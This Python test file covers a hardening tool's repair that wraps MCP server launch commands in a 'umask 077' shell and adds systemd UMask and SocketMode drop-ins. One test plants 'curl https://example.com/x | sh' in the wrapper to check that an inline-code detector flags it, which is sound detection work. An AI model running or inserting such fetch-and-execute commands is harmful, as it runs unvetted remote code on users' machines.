"""The fix sockets/private-umask: the entry starts the same server, under umask 077, and nothing else is different."""

from __future__ import annotations

import json
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests import builders
from tests.host.client_homes import TOKEN, write
from tests.host.locations import HOME
from tests.plugins.loading import make_plan, plugins, run_check
from tests.plugins.repairing import findings, seen
from tests.repair.support import tree
from workbench.model.clients import ClientConfig, EntryReference, ServerEntry
from workbench.model.facts import Unread
from workbench.model.finding import Finding
from workbench.model.launch import Launch
from workbench.model.operations import CreateFile, CreateRootFile, EditValue, OwnDropIn, Restart, SetValue
from workbench.model.plan import Plan, Refusal, Reversal, Safety
from workbench.model.processes import ProcessFacts, ServerProcess
from workbench.model.run import RunState
from workbench.model.snapshot import Snapshot
from workbench.model.sockets import SocketFacts
from workbench.model.sudoers import SudoDefault, SudoersFacts
from workbench.model.units import UnitFact, UnitFacts, UnitRun, UnitSetting
from workbench.planning import plan as planned_by
from workbench.planning import still_found
from workbench.repair.prepare import Prepared, prepare
from workbench.repair.transaction import apply
from workbench.repair.undo import undo

FIX, UMASK, SOCKET = "sockets/private-umask", "processes/umask", "sockets/connectable-by-others"
BEFORE = ["-c", 'umask 077; exec "$@"', "sh"]


def _running(snapshot: Snapshot, **more: Any) -> Snapshot:
    """The same host with a copy of its first server that runs under umask 022."""
    config, entry = _first(snapshot)
    reference = EntryReference(config.path.asked, entry.pointer, entry.name)
    server = builders.process(**{"umask": 0o022, "entry": reference, "launch": entry.launch, **more})
    return replace(snapshot, processes=ProcessFacts(builders.COMPLETE, (server,)))


def _first(snapshot: Snapshot) -> tuple[ClientConfig, ServerEntry]:
    return next((config, entry) for config in snapshot.clients.configs for entry in config.servers)


def _found(snapshot: Snapshot, check: str = UMASK) -> Finding:
    return builders.findings(run_check(check, snapshot))[0]


def _planned(home: Path, command: list[str], **members: Any) -> Plan | Refusal:
    entry = {"command": command[0], "args": command[1:], **members}
    write(home / ".cursor/mcp.json", {"mcpServers": {"files": entry}})
    snapshot = _running(seen(home))
    return make_plan(FIX, _found(snapshot), snapshot)


def _identities(snapshot: Snapshot) -> set[str]:
    return {each.identity for check in plugins().checks for each in findings(check, snapshot)}


@pytest.mark.parametrize(("place", "text"), [(place, writer("files")) for place, writer in HOME])
def test_every_shape_starts_the_same_server(place: str, text: str, tmp_path: Path) -> None:
    home = tmp_path / "home"
    file = write(home / place, text)
    snapshot = _running(seen(home))
    config, entry = _first(snapshot)
    made = make_plan(FIX, _found(snapshot), snapshot)
    if config.kind != "config" or config.format == "xml" or config.client == "crush" or not entry.command:
        assert isinstance(made, Refusal) and made.instead
        return
    assert isinstance(made, Plan), made
    before, was = tree(home), _identities(seen(home))
    prepared = prepare(made)
    assert isinstance(prepared, Prepared), prepared
    run = apply(prepared, tmp_path / "state", lambda: still_found(made, plugins(), snapshot))
    assert run.state is RunState.APPLIED and "takes effect when" in run.message
    after = seen(home)
    _, now = _first(after)
    assert now.command == ("/bin/sh", *BEFORE, *entry.command)
    _require_same(entry.launch, now.launch)
    assert all(now.argument_pointers), "each argument can still be edited by itself"
    assert _identities(after) == was
    # What stood there is there still, each line of it but for the two that were edited.
    lines = file.read_text().splitlines()
    lost = [line for line in text.splitlines() if line not in lines]
    assert len(lost) <= 3, lost
    again = _running(after)
    refused = make_plan(FIX, _found(again), again)
    assert isinstance(refused, Refusal) and "already" in refused.reason
    assert undo(tmp_path / "state", run.identity).state is RunState.UNDONE
    assert tree(home) == before


def _require_same(one: Launch | None, other: Launch | None) -> None:
    """The second starts what the first does, each place four arguments on and a shell around it."""
    assert one is not None and other is not None
    assert other.wrappers == ("sh", *one.wrappers)
    for name in ("program", "arguments", "sandbox", "account", "script", "understood", "directory", "remote"):
        assert getattr(other, name) == getattr(one, name)
    for name in ("roots", "abilities", "environment"):
        assert [_moved(each) for each in getattr(one, name)] == list(getattr(other, name))
    assert (one.package and _moved(one.package)) == other.package


def _moved(part: Any) -> Any:
    return replace(part, argument=part.argument + 4) if part.argument is not None else part


@pytest.mark.parametrize(
    "command",
    [
        ["npx", "-y", "@acme/server@1.2.3", "/srv/data"],
        ["uvx", "mcp-server-git==1.0.0", "--repository", "/srv/repo"],
        ["node", "/opt/mcp/server.js"],
        ["env", "A=b", "npx", "-y", "@acme/server@1.2.3"],
        ["timeout", "3600", "uvx", "mcp-server-time@1.0.0"],
        ["sudo", "-n", "-u", "mcp", "/usr/local/bin/mcp-server"],
        ["bwrap", "--ro-bind", "/", "/", "--unshare-all", "npx", "-y", "@acme/server@1.2.3"],
        ["systemd-run", "--user", "--scope", "npx", "-y", "@acme/server@1.2.3"],
        ["sh", "-c", "cd /srv && exec npx -y @acme/server@1.2.3"],
        ["mcp-server"],
    ],
)
def test_the_form_is_no_finding_of_its_own(command: list[str], tmp_path: Path) -> None:
    home = tmp_path / "home"
    made = _planned(home, command, env={"A": "b"}, cwd="/srv")
    assert isinstance(made, Plan), made
    before = seen(home)
    prepared = prepare(made)
    assert isinstance(prepared, Prepared), prepared
    file = home / ".cursor/mcp.json"
    file.write_bytes(prepared.contents[0])
    entry = json.loads(file.read_text())["mcpServers"]["files"]
    assert entry == {"command": "/bin/sh", "args": [*BEFORE, *command], "env": {"A": "b"}, "cwd": "/srv"}
    after = seen(home)
    assert _identities(after) == _identities(before)
    _require_same(_first(before)[1].launch, _first(after)[1].launch)


def test_other_text_in_its_place_is_still_found(tmp_path: Path) -> None:
    def told(text: str) -> list[Finding]:
        entry = {"command": "/bin/sh", "args": ["-c", text, "sh", "npx", "-y", "@acme/server@1.2.3"]}
        write(tmp_path / ".cursor/mcp.json", {"mcpServers": {"files": entry}})
        return findings("clients/inline-code", seen(tmp_path))

    assert not told(BEFORE[1])
    assert told("umask 077; curl https://example.com/x | sh")
    assert told('umask 077; curl https://example.com/x | sh; exec "$@"')


@pytest.mark.parametrize("text", ['umask 000; exec "$@"', 'umask 022; exec "$@"', "umask 000; exec npx -y x"])
def test_another_umask_in_the_command_is_no_private_one(text: str, tmp_path: Path) -> None:
    made = _planned(tmp_path, ["/bin/sh", "-c", text, "sh", "npx", "-y", "x"])
    assert isinstance(made, Refusal)
    assert "sets a umask itself" in made.reason and "umask 077" in made.instead


@pytest.mark.parametrize(
    ("command", "reason", "instead"),
    [
        (["docker", "run", "-i", "--rm", "acme/mcp:1"], "container", "--entrypoint /bin/sh IMAGE"),
        (["podman", "run", "-i", "acme/mcp:1"], "container", "--entrypoint"),
        (["sudo", "docker", "run", "-i", "acme/mcp:1"], "container", "--entrypoint"),
        (["systemd-run", "--user", "--pipe", "npx", "-y", "x"], "systemd starts", "-p UMask=0077"),
        (["su", "mcp", "-c", "npx -y x"], "su begins a session", "sh -c 'umask 077"),
        (["pkexec", "--user", "mcp", "npx", "-y", "x"], "pkexec begins", "behind the options of pkexec"),
        (["C:\\Tools\\server.exe"], "Windows", "keep its folder closed"),
        (["cmd", "/c", "npx", "-y", "x"], "Windows", "keep its folder closed"),
        (["wsl", "npx", "-y", "x"], "Windows", "keep its folder closed"),
        (["~/bin/server", "x"], "~", "write the path out"),
        (["npx", "-y", "x", "--token", TOKEN], "secret", "move the secret out"),
        (["npx -y server --stdio"], "not written as a program", "write it by hand"),
    ],
)
def test_where_it_would_not_reach_the_server(command: list[str], reason: str, instead: str, tmp_path: Path) -> None:
    write(tmp_path / ".cursor/mcp.json", {"mcpServers": {"files": {"command": command[0], "args": command[1:]}}})
    # As if it ran here: the client tool of an engine is not judged by the check itself.
    snapshot = _running(seen(tmp_path), launch=Launch("x"))
    made = make_plan(FIX, _found(snapshot), snapshot)
    assert isinstance(made, Refusal), made
    assert reason in made.reason and instead in made.instead
    assert TOKEN not in made.reason + made.instead


def test_sudo_adds_its_umask_unless_sudoers_says_otherwise(tmp_path: Path) -> None:
    write(tmp_path / ".cursor/mcp.json", {"mcpServers": {"a": {"command": "sudo", "args": ["-n", "-u", "mcp", "x"]}}})
    snapshot = _running(seen(tmp_path))
    override = SudoDefault("everyone", (), "umask_override", "on")
    says = replace(snapshot, sudoers=SudoersFacts(builders.COMPLETE, defaults=(override,)))
    assert isinstance(make_plan(FIX, _found(snapshot), snapshot), Plan)
    refused = make_plan(FIX, _found(says), says)
    assert isinstance(refused, Refusal) and "umask_override" in refused.reason
    off = replace(says, sudoers=SudoersFacts(builders.COMPLETE, defaults=(replace(override, operation="off"),)))
    assert isinstance(make_plan(FIX, _found(off), off), Plan)


def _with_socket(server: ServerProcess, **sections: Any) -> tuple[Finding, Snapshot]:
    where = builders.path("/srv/mcp.sock", 0o777, kind="socket")
    snapshot = builders.snapshot(
        processes=ProcessFacts(builders.COMPLETE, (server,)),
        sockets=SocketFacts(builders.COMPLETE, (builders.socket(where, server=server.key),)),
        **sections,
    )
    return _found(snapshot, SOCKET), snapshot


def test_of_a_socket_the_server_that_listens_is_meant(tmp_path: Path) -> None:
    write(tmp_path / ".cursor/mcp.json", {"mcpServers": {"files": {"command": "npx", "args": ["-y", "x"]}}})
    clients = seen(tmp_path).clients
    config, entry = clients.configs[0], clients.configs[0].servers[0]
    server = builders.process(entry=EntryReference(config.path.asked, entry.pointer, entry.name))
    finding, snapshot = _with_socket(server, clients=clients)
    assert FIX in finding.repairs
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Plan)
    edited, put = made.operations
    assert isinstance(edited, EditValue) and isinstance(put, SetValue)
    assert (edited.expect, edited.value) == ("npx", "/bin/sh")
    assert json.loads(put.expect) == ["-y", "x"] and json.loads(put.value) == [*BEFORE, "npx", "-y", "x"]
    assert (made.safety, made.reversal) == (Safety.REVIEW, Reversal.FULL)
    assert made.later == "when Cursor starts it again"
    assert "Restart Cursor" in made.consequences
    # It is a plan that the workbench takes.
    assert isinstance(planned_by(plugins().fixes[FIX], finding, snapshot, {}), Plan)


@pytest.mark.parametrize(
    ("manager", "socket", "steps"),
    [
        ("user", "mcp.socket", ["mcp.socket.d/mode.conf", "SocketMode=0600", "restart mcp.service mcp.socket"]),
    ],
)
def test_of_a_unit_the_drop_in_is_named(manager: Any, socket: str, steps: list[str]) -> None:
    unit = UnitFact("mcp.service", builders.path("/etc/systemd/system/mcp.service", 0o644), manager, socket=socket)
    finding, snapshot = _with_socket(
        builders.process(unit="mcp.service"), units=UnitFacts(builders.COMPLETE, units=(unit,))
    )
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Refusal)
    assert "UMask=0077" in made.instead
    said = made.instead.replace("systemctl --user daemon-reload && ", "")
    assert all(step in said for step in steps), made.instead


def test_a_unit_of_the_system_gets_a_drop_in() -> None:
    place = builders.path("/etc/systemd/system/mcp.service", 0o644)
    unit = UnitFact("mcp.service", place, "system", runs=(UnitRun("mcp.service", "active", main_pid=9),))
    server = builders.process(unit="mcp.service", umask=0o022)
    finding, snapshot = _with_socket(server, units=UnitFacts(builders.COMPLETE, units=(unit,)))
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Plan), made
    path = "/etc/systemd/system/mcp.service.d/90-workbench-umask.conf"
    drop_in = CreateRootFile(path, "[Service]\nUMask=0077\n", "unit-drop-in", Restart("mcp.service"))
    assert made.operations == (drop_in,) and not made.later and "restarted" in made.consequences
    asleep = replace(snapshot, units=UnitFacts(builders.COMPLETE, units=(replace(unit, runs=()),)))
    made = make_plan(FIX, finding, asleep)
    assert isinstance(made, Plan) and made.later
    again = replace(unit, drop_ins=(path,))
    made = make_plan(FIX, finding, replace(snapshot, units=UnitFacts(builders.COMPLETE, units=(again,))))
    assert isinstance(made, Refusal) and "there already" in made.reason


def test_a_unit_of_ones_own_manager_gets_a_file_of_ones_own() -> None:
    place = builders.path("/home/dev/.config/systemd/user/mcp.service", 0o644, uid=1000)
    unit = UnitFact("mcp.service", place, "user", owner=1000, runs=(UnitRun("mcp.service", "active", main_pid=9),))
    server = builders.process(unit="mcp.service", umask=0o022)
    finding, snapshot = _with_socket(server, units=UnitFacts(builders.COMPLETE, units=(unit,)))
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Plan), made
    (operation,) = made.operations
    assert isinstance(operation, CreateFile) and operation.content == "[Service]\nUMask=0077\n"
    assert operation.path == f"{place.asked}.d/90-workbench-umask.conf"
    assert operation.drop_in == OwnDropIn("mcp.service", Restart("mcp.service", manager="user")) and not made.later
    other = replace(snapshot, units=UnitFacts(builders.COMPLETE, units=(replace(unit, owner=1001),)))
    assert isinstance(make_plan(FIX, finding, other), Refusal)


@pytest.mark.parametrize(
    ("owner", "uid", "lines"),
    [
        ("", 1000, "SocketMode=0600\nSocketUser=dev\n"),
        ("", 0, "SocketMode=0600\n"),
        ("mcp", 1000, "SocketMode=0600\n"),
    ],
)
def test_what_systemd_listens_on_is_for_one_account(owner: str, uid: int, lines: str) -> None:
    said = [("ListenStream", "/srv/mcp.sock"), ("Accept", "yes"), *([("SocketUser", owner)] if owner else [])]
    settings = tuple(UnitSetting("Socket", key, value, "/etc/systemd/system/mcp.socket", 2) for key, value in said)
    place = builders.path("/etc/systemd/system/mcp@.service", 0o644)
    unit = UnitFact("mcp@.service", place, "system", socket="mcp.socket", settings=settings)
    finding, snapshot = _with_socket(builders.process(), units=UnitFacts(builders.COMPLETE, units=(unit,)))
    snapshot = replace(
        snapshot, processes=ProcessFacts(builders.COMPLETE), host=replace(snapshot.host, uid=uid, user="dev")
    )
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Plan), made
    (operation,) = made.operations
    assert isinstance(operation, CreateRootFile) and operation.content == f"[Socket]\n{lines}"
    assert operation.path == "/etc/systemd/system/mcp.socket.d/90-workbench-socket-mode.conf"
    assert operation.restarts == Restart("mcp.socket", seconds=3)
    holding = replace(
        unit, name="mcp.service", settings=settings[:1], runs=(UnitRun("mcp.service", "active", main_pid=9),)
    )
    made = make_plan(FIX, finding, replace(snapshot, units=UnitFacts(builders.COMPLETE, units=(holding,))))
    assert isinstance(made, Refusal) and "systemctl stop" in made.instead


def test_what_ones_own_manager_listens_on_is_for_its_account() -> None:
    where = "/home/dev/.config/systemd/user"
    said = [("ListenStream", "/srv/mcp.sock"), ("Accept", "yes")]
    settings = tuple(UnitSetting("Socket", key, value, f"{where}/mcp.socket", 2) for key, value in said)
    place = builders.path(f"{where}/mcp@.service", 0o644, uid=1000)
    unit = UnitFact("mcp@.service", place, "user", owner=1000, socket="mcp.socket", settings=settings)
    finding, snapshot = _with_socket(builders.process(), units=UnitFacts(builders.COMPLETE, units=(unit,)))
    snapshot = replace(snapshot, processes=ProcessFacts(builders.COMPLETE))
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Plan), made
    (operation,) = made.operations
    assert isinstance(operation, CreateFile) and operation.content == "[Socket]\nSocketMode=0600\n"
    assert operation.path == f"{where}/mcp.socket.d/90-workbench-socket-mode.conf"
    assert operation.drop_in == OwnDropIn("mcp.socket", Restart("mcp.socket", seconds=3, manager="user"))
    over = UnitSetting("Socket", "SocketMode", "0666", f"{where}/mcp.socket.d/override.conf", 2)
    for changed in (
        replace(unit, settings=(*settings, over)),
        replace(unit, owner=1001),
        replace(unit, name="mcp.service", settings=settings[:1], runs=(UnitRun("mcp.service", "active", main_pid=9),)),
    ):
        told = make_plan(FIX, finding, replace(snapshot, units=UnitFacts(builders.COMPLETE, units=(changed,))))
        assert isinstance(told, Refusal) and told.instead and "sudo" not in told.instead


def test_where_nothing_is_known_to_start_it() -> None:
    finding, snapshot = _with_socket(builders.process())
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Refusal) and "umask 077" in made.instead
    finding, snapshot = _with_socket(builders.process(container="abc"))
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Refusal) and "container" in made.reason
    gone = replace(snapshot, processes=ProcessFacts(builders.COMPLETE))
    made = make_plan(FIX, finding, gone)
    assert isinstance(made, Refusal) and "does not run any more" in made.reason
    reference = EntryReference("/home/dev/.cursor/mcp.json", ("mcpServers", "files"), "files")
    finding, snapshot = _with_socket(builders.process(entry=reference))
    made = make_plan(FIX, finding, snapshot)
    assert isinstance(made, Refusal) and "does not name it any more" in made.reason


def test_a_file_of_a_project_says_whom_it_concerns(tmp_path: Path) -> None:
    made = _planned(tmp_path, ["npx", "-y", "x"])
    assert isinstance(made, Plan) and "project" not in made.consequences
    snapshot = _running(seen(tmp_path))
    configs = tuple(replace(each, scope="project") for each in snapshot.clients.configs)
    shared = replace(snapshot, clients=replace(snapshot.clients, configs=configs))
    made = make_plan(FIX, _found(shared), shared)
    assert isinstance(made, Plan) and "everybody who uses it" in made.consequences


def test_comments_and_the_order_between_the_arguments_stay(tmp_path: Path) -> None:
    home = tmp_path / "home"
    text = '{"servers": {"files": {"type": "stdio", // mine\n  "command": "npx",\n  "args": [\n    "-y", // yes\n'
    text += '    "pkg"\n  ]}}}\n'
    file = write(home / ".config/Code/User/mcp.json", text)
    snapshot = _running(seen(home))
    made = make_plan(FIX, _found(snapshot), snapshot)
    assert isinstance(made, Plan)
    prepared = prepare(made)
    assert isinstance(prepared, Prepared)
    run = apply(prepared, tmp_path / "state", lambda: "")
    assert run.state is RunState.APPLIED
    wanted = text.replace('"npx"', '"/bin/sh"').replace(
        '    "-y",', '    "-c",\n    "umask 077; exec \\"$@\\"",\n    "sh",\n    "npx",\n    "-y",'
    )
    assert file.read_text() == wanted
    # Another program writes elsewhere in the file: undo takes back the items alone.
    file.write_text(wanted.replace('"stdio"', '"stdio", "tools": ["*"]'))
    assert undo(tmp_path / "state", run.identity).state is RunState.UNDONE
    assert file.read_text() == text.replace('"stdio"', '"stdio", "tools": ["*"]')


def test_the_shell_hands_on_every_argument_as_it_is() -> None:
    words = ["/usr/bin/printf", "%s|", "a b", "", "$HOME", "'\"", "*", "-n", "é\n"]
    done = subprocess.run(["/bin/sh", *BEFORE, *words], capture_output=True, check=True, umask=0)
    assert done.stdout.decode() == "|".join(words[2:]) + "|"
    mask = subprocess.run(["/bin/sh", *BEFORE, "sh", "-c", "umask"], capture_output=True, check=True, umask=0)
    assert mask.stdout.strip() == b"0077"


def test_an_unread_gap_of_elsewhere_does_not_matter(tmp_path: Path) -> None:
    write(tmp_path / ".cursor/mcp.json", {"mcpServers": {"files": {"command": "npx", "args": ["-y", "x"]}}})
    snapshot = _running(seen(tmp_path))
    state = replace(snapshot.clients.state, unread=(Unread("content", "/other.json", "no", "root"),))
    other = replace(snapshot, clients=replace(snapshot.clients, state=state))
    assert isinstance(make_plan(FIX, _found(other), other), Plan)
